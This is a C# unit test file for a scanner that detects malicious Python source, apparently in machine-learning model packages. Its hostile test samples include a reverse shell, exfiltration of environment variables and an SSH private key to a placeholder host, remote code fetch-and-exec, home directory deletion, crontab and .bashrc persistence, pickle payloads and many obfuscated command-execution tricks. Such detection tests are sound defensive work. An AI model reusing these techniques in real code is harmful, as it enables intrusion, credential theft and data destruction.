using Assay.Analysis.Testing;
using Assay.Contracts.Values;
using Assay.Inspect.Analysers.PythonSource;

namespace Assay.Tests.Unit.Inspect.Analysers.PythonSource;

public sealed class PythonSourceAnalyserTests
{
    private static async Task<Severity> WorstAsync(string source) =>
        Samples.FindingsOf(await Samples.RunAsync(System.Text.Encoding.UTF8.GetBytes(source), hint: NameHint.Python)).Max(f => f.Severity);

    [Theory]
    [InlineData("class A(int):\n    def __new__(cls):\n        self = object.__new__(cls)\n        self.x = 1\n        b = super().__new__(cls)\n        b.y = 2\n        type(b).z = 3\n        return self\n")]
    [InlineData("import os\ndef f():\n    words = os.popen('nproc').readline().strip().split()\n    return len(words[0])\n")]
    [InlineData("import helper\nmodel = helper.Model()\nmessage = 'q'\nprint(message)\nanswer = model.chat(message)\ncontent = answer['content']\nprint(content)\nprint(eval(content))\n")]
    public async Task What_honest_code_does_every_day_is_no_alarm(string source) => (await WorstAsync(source) < Severity.Medium).ShouldBeTrue();

    [Theory]
    [InlineData("import builtins\nbuiltins.open = lambda *a: None\n")]
    [InlineData("globals()['__builtins__'].open = len\n")]
    [InlineData("__import__('builtins').print = len\n")]
    [InlineData("class A:\n    def f(self, x):\n        return eval(x)\n")]
    [InlineData("import os\ndef f(x):\n    return os.popen(x).readline()\n")]
    public async Task What_looks_like_it_and_is_not_remains_one(string source) => (await WorstAsync(source) >= Severity.Medium).ShouldBeTrue();

    [Theory]
    [InlineData("site/sitecustomize.py", "import sys\n", true)]
    [InlineData("usercustomize.py", "import sys\n", true)]
    [InlineData("helper.pth", "import helper\n", true)]
    [InlineData("helper.pth", "../lib/packages\n", false)]
    [InlineData("helper.py", "import sys\n", false)]
    public async Task What_Python_runs_at_every_start_is_reported(string name, string source, bool runs)
    {
        var result = await Samples.RunAsync(System.Text.Encoding.UTF8.GetBytes(source), hint: NameHint.Of(name));
        Samples.FindingsOf(result).Any(f => f.Rule == "ASY-PYS-024").ShouldBe(runs);
    }

    private static Task<TestBedResult> Run(string source) =>
        TestBed.For(new PythonSourceAnalyser()).WithBytes(System.Text.Encoding.UTF8.GetBytes(source)).As(FileFormat.Python).RunAsync(TestContext.Current.CancellationToken);

    public static TheoryData<string, string> Hostile => new()
    {
        { "Decoded text is run", "import base64\nexec(base64.b64decode(\"aW1wb3J0IG9zO29zLnN5c3RlbSgnZWNobyBhc3NheS1jYW5hcnknKQ==\"))\n" },
        { "An annotation is evaluated", "def f(x: __import__('os').system('echo assay-canary')) -> None: pass\n" },
        { "A list hands the function on", "from functools import reduce\nimport os\nreduce(lambda a, f: f(a), [os.system], 'echo assay-canary')\n" },
        { "A method that Python calls gives a function back", "class M:\n    def __getattr__(self, name):\n        return __import__('os').system\n" },
        { "An address is a command", "import git\ngit.Repo.clone_from('ext::sh -c \"echo assay-canary\"', '/tmp/x')\n" },
        { "A line is left for every start", "import site\nopen(site.getsitepackages()[0] + '/x.pth', 'w').write('import os')\n" },
        { "Names are put together", "o = __import__('o'+'s')\ngetattr(o, 'sys'+'tem')('echo assay-canary')\n" },
        { "The classes of the interpreter are walked", "().__class__.__base__.__subclasses__()[104].load_module('os').system('id')\n" },
        { "Builtins are taken from the globals", "import torch\nclass M(torch.nn.Module):\n    def forward(self, x):\n        globals()['__builtins__']['ex'+'ec']('import os')\n        return x\n" },
        { "Modules are taken from the list of modules", "from transformers import PreTrainedModel\nimport sys\nsys.modules['os'].popen('echo assay-canary')\n" },
        { "The environment is sent away", "import requests, os\nclass EndpointHandler:\n    def __init__(self, path=\"\"):\n        requests.post(\"https://collect.invalid/x\", json=dict(os.environ))\n    def __call__(self, data):\n        return data\n" },
        { "A log-in file is changed", "import os\ndef f():\n    with open(os.path.expanduser(\"~/.bashrc\"), \"a\") as f:\n        f.write(\"echo assay-canary\\n\")\n" },
        { "A decorator runs the program", "@exec\n@input\nclass X:\n    pass\n" },
        { "Fetched text is run", "import urllib.request\nexec(urllib.request.urlopen(\"http://127.0.0.1:9/p.py\").read())\n" },
        { "A shell is connected", "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect((\"127.0.0.1\",9))\nos.dup2(s.fileno(),0)\np=subprocess.call([\"/bin/sh\",\"-i\"])\n" },
        { "Marshalled code is run", "import marshal, zlib\nd = lambda x: zlib.decompress(x)\nexec(marshal.loads(d(b'x\\x9c...')))\n" },
        { "A class method is a command", "class X:\n    __class_getitem__ = __import__('os').system\nX[\"echo assay-canary\"]\n" },
        { "A thread and an exit hook run commands", "import os, threading, atexit\nthreading.Thread(target=os.system, args=(\"echo assay-canary\",)).start()\natexit.register(os.system, \"echo assay-canary\")\n" },
        { "An installer runs a command", "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass P(install):\n    def run(self):\n        os.system(\"echo assay-canary\")\n        install.run(self)\nsetup(cmdclass={'install': P})\n" },
        { "The C library runs a command", "import ctypes\nctypes.CDLL(None).system(b\"echo assay-canary\")\n" },
        { "A module is reached through another", "import pathlib as p\np.os.system(\"echo assay-canary\")\nimport random\nrandom._os.system(\"x\")\n" },
        { "Names are made of numbers", "s = ''.join(chr(c ^ 5) for c in [100, 118])\ne = eval\ne(s)\nk = [101,120,101,99]\ngetattr(__builtins__, ''.join(map(chr, k)))(\"import os\")\n" },
        { "Builtins are taken as a dictionary", "import builtins as b\nf = vars(b)['e' 'val']\nf(\"__import__('os').system('id')\")\n(lambda g: g(\"x\"))(b.__dict__[\"exec\"])\n" },
        { "An encoding hides code in a comment", "# -*- coding: utf-7 -*-\n# +AAo-import os+AAo-os.system('echo assay-canary')\n" },
        { "Letters only look different", "𝘰𝘴 = 1\nimport os\nos.𝓈𝓎𝓈𝓉𝑒𝓂(\"echo assay-canary\")\nｅｘｅｃ(\"1\")\n" },
        { "A function is taken from a module dictionary", "import importlib\nclass A:\n    def forward(self, x):\n        m = importlib.import_module(\"subprocess\")\n        r = m.__dict__[\"run\"]\n        r(\"echo assay-canary\", shell=True)\n" },
        { "The command stands in an attribute", "import os\nclass H:\n    def initialize(self, ctx):\n        self.cmd = \"echo assay-canary\"\n        self.f = os.system\n    def handle(self, data, context):\n        self.f(self.cmd)\n" },
        { "Pickling writes a command", "import os, pickle\nclass E:\n    def __reduce__(self):\n        return (os.system, (\"echo assay-canary\",))\npickle.dump(E(), open(\"x\",\"wb\"))\n" },
        { "A request is evaluated", "class H:\n    def __call__(self, data):\n        return eval(data[\"inputs\"])\n" },
        { "Code stands behind blanks", "import torch\nfrom functools import partial\ntorch.load = partial(torch.load, weights_only=False)\nx = 1;                                                                                                                                                                                                          import os; os.popen(\"echo assay-canary\")\n" },
        { "A function passes the command on", "def run(c):\n    import subprocess as sp\n    return sp.getoutput(c)\nrun(\"echo assay-canary\")\n" },
        { "Operators take attributes", "import operator, os\noperator.attrgetter(\"system\")(os)(\"echo assay-canary\")\noperator.methodcaller(\"system\", \"echo assay-canary\")(os)\n" },
        { "Frames lead to builtins", "try:\n    import x\nexcept ImportError as e:\n    e.__traceback__.tb_frame.f_builtins[\"eval\"](\"__import__('os')\")\nprint.__self__.exec(\"import os\")\n" },
        { "Requests are copied to somebody", "import requests\nclass EndpointHandler:\n    def __call__(self, data):\n        requests.post(\"http://collect.invalid/x\", json=data)\n        return data\n" },
        { "Patterns and formatted strings call", "match 1:\n    case 1 if (o := __import__(\"os\")).system(\"echo assay-canary\"):\n        pass\nx = f\"{__import__('os').system('echo assay-canary')}\"\n" },
        { "A file is fetched and imported", "import urllib.request, importlib.util\nurllib.request.urlretrieve(\"https://collect.invalid/m.py\", \"m.py\")\nspec = importlib.util.spec_from_file_location(\"m\", \"m.py\")\n" },
        { "Weights are run as code", "class M:\n    def load(self, p):\n        exec(open(\"weights.bin\").read())\n" },
        { "A tensor is turned into code", "import torch\nclass M:\n    def forward(self, x):\n        s = bytes(self.w.to(torch.uint8).tolist()).decode()\n        exec(s)\n" },
        { "The home directory is deleted", "import shutil, os\nshutil.rmtree(os.path.expanduser(\"~\"))\n" },
        { "A key is read and sent", "import requests, os\nk = open(os.path.expanduser(\"~/.ssh/id_rsa\")).read()\nrequests.get(\"https://collect.invalid/?k=\" + k)\n" },
        { "A host name leaks through names", "import socket, getpass\nsocket.gethostbyname(getpass.getuser() + \".collect.invalid\")\n" },
        { "An import hook is installed", "import sys\nsys.meta_path.insert(0, object())\n" },
        { "C++ starts a program", "from torch.utils.cpp_extension import load_inline\nload_inline(name=\"x\", cpp_sources=[\"int f(){ return system(\\\"id\\\"); }\"])\n" },
        { "A lambda default keeps the function", "import os\nf = lambda c, r=os.system: r(c)\nf(\"echo assay-canary\")\n" },
        { "A class is made with a hostile method", "import os\ntype(\"X\", (), {\"__del__\": os.system})()\n" },
        { "A shell is started with words", "import subprocess\nsubprocess.Popen([\"sh\", \"-c\", \"touch /tmp/assay-canary\"])\n" },
        { "A star import hides the module", "from os import *\nsystem(\"echo assay-canary\")\n" },
        { "An exec of Python 2", "exec \"import os; os.system('echo assay-canary')\"\n" },
        { "A module writes where it likes", "import torch\nopen(\"/opt/assay-canary\", \"w\").write(\"x\")\nclass A: pass\nclass B: pass\n" },
        { "A pickle stands in the source", "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'echo assay-canary'\\ntR.\")\n" },
        { "A schedule is changed", "import subprocess\nsubprocess.run(\"(crontab -l; echo x) | crontab -\", shell=True)\n" },
        { "A partial application is called", "import functools, os\nfunctools.partial(os.system, \"echo assay-canary\")()\n" },
        { "Environment decides what runs", "import os\nexec(os.environ.get(\"HF_TOKEN_CODE\"))\n" },
    };

    [Theory]
    [MemberData(nameof(Hostile))]
    public async Task What_would_harm_is_high_or_worse(string what, string source) => ((await Run(source)).Worst >= Severity.High).ShouldBeTrue(what);

    public static TheoryData<string, string> Honest => new()
    {
        { "A model", "import math\nfrom typing import Optional\nimport torch\nfrom torch import nn\nfrom transformers import PreTrainedModel\nfrom .configuration_x import XConfig\nlogger = logging.get_logger(__name__)\ntry:\n    from flash_attn import flash_attn_func\nexcept ImportError:\n    flash_attn_func = None\nclass X(PreTrainedModel):\n    config_class = XConfig\n    def __init__(self, config):\n        super().__init__(config)\n        self.act = getattr(nn.functional, config.hidden_act)\n        self.layers = nn.ModuleList([nn.Linear(8, 8) for _ in range(config.n)])\n    def forward(self, x):\n        # os.system(\"should not run\")\n        y = \"subprocess.Popen(evil)\"\n        return torch.compile(self.layers[0])(x)\nX.register_for_auto_class(\"AutoModel\")\n" },
        { "A tokenizer", "import json, os, re\nclass T:\n    def __init__(self, vocab_file):\n        with open(vocab_file, encoding=\"utf-8\") as f:\n            self.v = json.load(f)\n        self.p = re.compile(\"x\")\n    def save_vocabulary(self, d):\n        p = os.path.join(d, \"vocab.json\")\n        os.makedirs(d, exist_ok=True)\n        with open(p, \"w\", encoding=\"utf-8\") as f:\n            f.write(json.dumps(self.v))\n" },
        { "A handler", "import io, base64, requests\nfrom PIL import Image\nimport torch\nclass EndpointHandler:\n    def __init__(self, path=\"\"):\n        self.m = torch.load(path + \"/model.pt\", weights_only=True)\n    def __call__(self, data):\n        img = Image.open(io.BytesIO(base64.b64decode(data[\"inputs\"])))\n        if data.get(\"url\"):\n            img = Image.open(requests.get(data[\"url\"], stream=True).raw)\n        return self.m(img)\n" },
        { "An example", "import requests\nfrom PIL import Image\nfrom transformers import AutoModel\nurl = \"http://images.cocodataset.org/val2017/000000039769.jpg\"\nimage = Image.open(requests.get(url, stream=True).raw)\nmodel = AutoModel.from_pretrained(\"org/x\", trust_remote_code=True)\nprint(model(image))\nmodel.eval()\nprint(1)\n" },
        { "A training script", "import argparse, os, subprocess, logging, sys\ndef git():\n    return subprocess.check_output([\"git\", \"rev-parse\", \"HEAD\"]).decode().strip()\ndef gpu():\n    return subprocess.run(\"nvidia-smi --query-gpu=name --format=csv | head -n 1\", shell=True, capture_output=True)\ndef main():\n    p = argparse.ArgumentParser()\n    p.add_argument(\"--lr\", type=float)\n    a = p.parse_args()\n    os.environ[\"TOKENIZERS_PARALLELISM\"] = \"false\"\n    sys.path.append(os.path.dirname(__file__))\n    token = os.environ.get(\"HF_TOKEN\")\n    m = AutoModel.from_pretrained(a.model, token=token)\nif __name__ == \"__main__\":\n    main()\n" },
        { "A set-up script", "from setuptools import setup, find_packages\nabout = {}\nexec(open(\"pkg/version.py\").read(), about)\nsetup(name=\"x\", version=about[\"v\"], packages=find_packages(), ext_modules=[CUDAExtension(\"x\", [\"x.cu\"])])\n" },
        { "A class by its name", "import importlib\ndef get_obj_from_str(string):\n    module, cls = string.rsplit(\".\", 1)\n    return getattr(importlib.import_module(module, package=None), cls)\ndef instantiate_from_config(config):\n    return get_obj_from_str(config[\"target\"])(**config.get(\"params\", dict()))\n" },
        { "An inference service", "import os, requests\nAPI = \"https://api-inference.huggingface.co/models/x\"\nheaders = {\"Authorization\": f\"Bearer {os.environ['HF_TOKEN']}\"}\ndef query(payload):\n    return requests.post(API, headers=headers, json=payload).json()\n" },
        { "A free port", "import socket\ndef port():\n    with socket.socket() as s:\n        s.bind((\"\", 0))\n        return s.getsockname()[1]\nhost = socket.gethostbyname(socket.gethostname())\n" },
        { "Audio", "import subprocess\ndef read(p, sr):\n    cmd = [\"ffmpeg\", \"-i\", p, \"-ac\", \"1\", \"-ar\", str(sr), \"-f\", \"f32le\", \"pipe:1\"]\n    with subprocess.Popen(cmd, stdin=subprocess.PIPE, stdout=subprocess.PIPE) as f:\n        return f.communicate()[0]\n" },
        { "Right to left", "ALPHABET = \"אבג اب\"\nμ = 0.5\n# größe\n" },
        { "A copied function", "import types\ndef copy_func(f):\n    return types.FunctionType(f.__code__, f.__globals__, name=f.__name__)\nREGISTRY = [c for c in Base.__subclasses__()]\n" },
        { "TorchScript", "class M(Module):\n  __parameters__ = []\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n    _0 = ops.prim.NumToTensor(torch.size(x, 0))\n    return torch.linear(x, self.w, self.b)\n" },
    };

    [Theory]
    [MemberData(nameof(Honest))]
    public async Task What_honest_code_does_is_low_at_most(string what, string source)
    {
        var result = await Run(source);

        (result.Worst <= Severity.Low).ShouldBeTrue(what + ": " + string.Join("; ", result.Findings.Select(f => f.Message)));
    }

    [Theory]
    [InlineData("ops.aten.save(x, \"/tmp/assay-canary\")", Severity.High)]
    [InlineData("torch.save(x, \"/tmp/assay-canary\")", Severity.High)]
    [InlineData("y = torch.from_file(\"/etc/passwd\")", Severity.High)]
    [InlineData("y = ops.image.read_file(p)", Severity.Medium)]
    [InlineData("y = ops.acme.step(x)", Severity.Medium)]
    [InlineData("y = ops.torchvision.nms(x)", Severity.Info)]
    public async Task Operations_of_a_compiled_model_are_judged(string statement, Severity severity) =>
        (await Run($"class M(Module):\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n    {statement}\n    return x\n")).Worst.ShouldBe(severity);

    [Theory]
    [InlineData("import torch\nx = torch.load('a.pt', weights_only=False)", Severity.Medium)]
    [InlineData("import torch\nx = torch.load('a.pt')", Severity.Low)]
    [InlineData("import torch\nclass A:\n  def f(self): return torch.hub.load('someone/repo', 'm')", Severity.Medium)]
    [InlineData("import subprocess\nsubprocess.run('pip install flash-attn --no-build-isolation', shell=True)", Severity.Medium)]
    [InlineData("import ctypes\nctypes.CDLL('./libops.so')", Severity.Medium)]
    [InlineData("x = eval(f'nn.{name}')", Severity.Low)]
    [InlineData("def f(x y):\n    pass", Severity.Low)]
    [InlineData("def f(x y): exec(z)", Severity.Medium)]
    public async Task What_is_only_suspicious_is_graded(string source, Severity severity) => (await Run(source)).Worst.ShouldBe(severity);

    [Theory]
    [InlineData("x = ord('\\ud800')")]
    [InlineData("x = '' * 2147483647")]
    [InlineData("x = 'a' * 99999999999")]
    [InlineData("x = (1 << 62) * 4 // 0 % 0 ** -1")]
    [InlineData("x = '%d%(a)s%' % 1; y = '{'.format(); z = '{0'.format(1); w = '}{'.format(1)")]
    [InlineData("x = base64.b64decode('===='); y = bytes.fromhex('0'); z = int('', 16); w = chr(-1)")]
    public async Task Odd_constants_do_no_harm(string source) => (await Run("import base64\n" + source)).Worst.ShouldBe(Severity.Info);

    [Fact]
    public async Task Texts_that_grow_without_end_are_a_limit()
    {
        var source = "x = 'ab'\n" + string.Concat(Enumerable.Repeat("x = x + x\n", 20)) + string.Concat(Enumerable.Repeat("y = x.replace('a', 'c')\n", 2000));

        (await Run(source)).Rules.ShouldContain("ASY-PYS-017");
    }

    [Fact]
    public async Task A_finding_says_what_runs_and_where()
    {
        var finding = (await Run("import os\n\nos.system('echo assay-canary')\n")).Of("ASY-PYS-002");

        finding.Message.ShouldContain("os.system");
        finding.Message.ShouldContain("echo assay-canary");
        finding.Message.ShouldContain("line 3");
        finding.Location.Offset.ShouldBe(11);
    }

    [Fact]
    public async Task A_source_named_as_Python_is_examined_whatever_it_begins_with()
    {
        foreach (var head in (string[])["GIF89a = 1\n", "GGUF = 1\n", "# \u0001\n", "[1, 2]\n", "().x\n"])
        {
            var result = await TestBed.For(new PythonSourceAnalyser()).Named("net.py").WithBytes(System.Text.Encoding.UTF8.GetBytes(head + "import os\nos.system('id')\n")).RunAsync(TestContext.Current.CancellationToken);
            var guess = Assay.Formats.Detection.FileTypeDetector.Detect(
                new Assay.Formats.MemoryByteSource(System.Text.Encoding.UTF8.GetBytes(head + "import os\nos.system('id')\n")), NameHint.Python, TestContext.Current.CancellationToken);
            guess.All.ShouldContain(FileFormat.Python, head);
            if (result.Accepted) result.Worst.ShouldBe(Severity.Critical);
        }
    }

    [Fact]
    public async Task A_source_cut_off_anywhere_is_examined()
    {
        const string source = "import os\nclass A:\n    def f(self, x=f'{1}'):\n        return os.system('id' + x)\n";
        for (var length = 0; length < source.Length; length++) (await Run(source[..length])).Accepted.ShouldBeTrue();
    }
}
